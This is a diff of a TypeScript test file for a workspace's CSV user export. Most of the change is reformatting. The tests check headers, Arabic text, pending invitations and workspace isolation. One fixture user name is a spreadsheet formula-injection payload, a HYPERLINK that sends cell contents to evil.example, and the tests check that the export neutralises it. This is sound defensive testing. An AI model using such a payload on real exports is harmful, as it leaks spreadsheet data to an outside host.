@@ -10,11 +10,23 @@ import { insertInvitation, insertTeam } from "./support";
 
 const t = setupTestDb();
 
-const SPEC_HEADER = ["name", "email", "access level", "status", "restrictions", "teams", "last active", "joined or invited at", "invited by"];
+const SPEC_HEADER = [
+  "name",
+  "email",
+  "access level",
+  "status",
+  "restrictions",
+  "teams",
+  "last active",
+  "joined or invited at",
+  "invited by",
+];
 const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;
 
 async function download(workspaceId: string) {
-  const res = await GET(new Request(`http://localhost/w/${workspaceId}/settings/users/export`), { params: Promise.resolve({ workspaceId }) });
+  const res = await GET(new Request(`http://localhost/w/${workspaceId}/settings/users/export`), {
+    params: Promise.resolve({ workspaceId }),
+  });
   const bytes = new Uint8Array(await res.arrayBuffer());
   return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
 }
@@ -22,22 +34,51 @@ async function download(workspaceId: string) {
 describe("GET /w/[workspaceId]/settings/users/export", () => {
   it("streams a UTF-8 CSV with BOM: SPEC header, every member and pending invitation, Arabic intact, formulas neutralised", async () => {
     const ws = await createWorkspace({ name: "Export" });
-    const owner = await t.db.selectFrom("users").select(["email", "name"]).where("id", "=", ws.ownerId).executeTakeFirstOrThrow();
+    const owner = await t.db
+      .selectFrom("users")
+      .select(["email", "name"])
+      .where("id", "=", ws.ownerId)
+      .executeTakeFirstOrThrow();
     const arabic = await createUser({ name: "ليلى عبد الله", email: "layla@example.com" });
-    const evil = await createUser({ name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', email: "evil@example.com" });
+    const evil = await createUser({
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      email: "evil@example.com",
+    });
     const quiet = await createUser({ name: null, email: "no.name@example.com" });
     await addMember(ws, arabic, "agent", ["see_team", "no_snippets"]);
     await addMember(ws, evil, "manager", ["no_export"]);
     await addMember(ws, quiet, "agent");
-    await t.db.updateTable("workspace_members").set({ invited_by: ws.ownerId, last_active_at: new Date("2026-03-04T05:06:07.000Z") }).where("user_id", "=", arabic.id).execute();
+    await t.db
+      .updateTable("workspace_members")
+      .set({ invited_by: ws.ownerId, last_active_at: new Date("2026-03-04T05:06:07.000Z") })
+      .where("user_id", "=", arabic.id)
+      .execute();
     await insertTeam(t.db, ws.workspaceId, "فريق الدعم", [arabic.id]);
     await insertTeam(t.db, ws.workspaceId, "Alpha", [arabic.id]);
-    await insertInvitation(t.db, { workspaceId: ws.workspaceId, email: "pending@example.com", role: "manager", restrictions: ["no_settings"], invitedBy: ws.ownerId });
-    const gone = await insertInvitation(t.db, { workspaceId: ws.workspaceId, email: "cancelled@example.com", invitedBy: ws.ownerId });
-    await t.db.updateTable("invitations").set({ cancelled_at: sql<Date>`now()` }).where("id", "=", gone.id).execute();
+    await insertInvitation(t.db, {
+      workspaceId: ws.workspaceId,
+      email: "pending@example.com",
+      role: "manager",
+      restrictions: ["no_settings"],
+      invitedBy: ws.ownerId,
+    });
+    const gone = await insertInvitation(t.db, {
+      workspaceId: ws.workspaceId,
+      email: "cancelled@example.com",
+      invitedBy: ws.ownerId,
+    });
+    await t.db
+      .updateTable("invitations")
+      .set({ cancelled_at: sql<Date>`now()` })
+      .where("id", "=", gone.id)
+      .execute();
     // Another workspace's people never appear.
     const other = await createWorkspace();
-    await insertInvitation(t.db, { workspaceId: other.workspaceId, email: "elsewhere@example.com", invitedBy: other.ownerId });
+    await insertInvitation(t.db, {
+      workspaceId: other.workspaceId,
+      email: "elsewhere@example.com",
+      invitedBy: other.ownerId,
+    });
 
     await asUser(ws.ownerId);
     const { res, bytes, text } = await download(ws.workspaceId);
@@ -52,7 +93,9 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
     const [header, ...rows] = parse(text, { bom: true }) as string[][];
     expect(header).toEqual(SPEC_HEADER);
     const byEmail = new Map(rows.map((r) => [r[1], r]));
-    expect([...byEmail.keys()].sort()).toEqual(["evil@example.com", "layla@example.com", "no.name@example.com", owner.email, "pending@example.com"].sort());
+    expect([...byEmail.keys()].sort()).toEqual(
+      ["evil@example.com", "layla@example.com", "no.name@example.com", owner.email, "pending@example.com"].sort(),
+    );
     expect(rows).toHaveLength(5);
 
     expect(byEmail.get("layla@example.com")).toEqual([
@@ -70,7 +113,15 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
     expect(evilRow[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
     expect(evilRow.slice(2, 5)).toEqual(["manager", "active", "no_export"]);
     // The download itself counts as the Owner's activity (SPEC §5), so "last active" is now.
-    expect(byEmail.get(owner.email)!.slice(0, 7)).toEqual([owner.name ?? "", owner.email, "owner", "active", "", "", expect.stringMatching(ISO_UTC)]);
+    expect(byEmail.get(owner.email)!.slice(0, 7)).toEqual([
+      owner.name ?? "",
+      owner.email,
+      "owner",
+      "active",
+      "",
+      "",
+      expect.stringMatching(ISO_UTC),
+    ]);
     expect(byEmail.get("no.name@example.com")![0]).toBe("");
     expect(byEmail.get("no.name@example.com")![6], "never active → empty").toBe("");
     expect(byEmail.get("pending@example.com")).toEqual([
